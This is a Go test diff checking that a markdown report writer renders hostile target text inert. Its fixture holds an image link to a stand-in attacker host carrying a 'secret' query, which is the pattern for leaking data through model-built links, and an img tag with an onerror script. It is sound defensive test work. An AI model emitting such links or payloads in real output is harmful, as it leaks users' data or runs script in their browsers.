@@ -172,3 +172,16 @@ func TestSARIFValidates(t *testing.T) {
 		t.Error("an invalid log validates")
 	}
 }
+
+// A hostile target's text (a model-built image link, raw HTML) is inert in the markdown report.
+func TestMarkdownNeutralisesTargetText(t *testing.T) {
+	r := fixture()
+	r.Findings[0].Detail = `built ![x](http://evil.test/?q=secret) and <img src=x onerror=alert(1)>`
+	var b bytes.Buffer
+	if err := WriteMarkdown(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(b.String(), "![x](") || strings.Contains(b.String(), "<img") {
+		t.Errorf("target text is live in markdown:\n%s", b.String())
+	}
+}
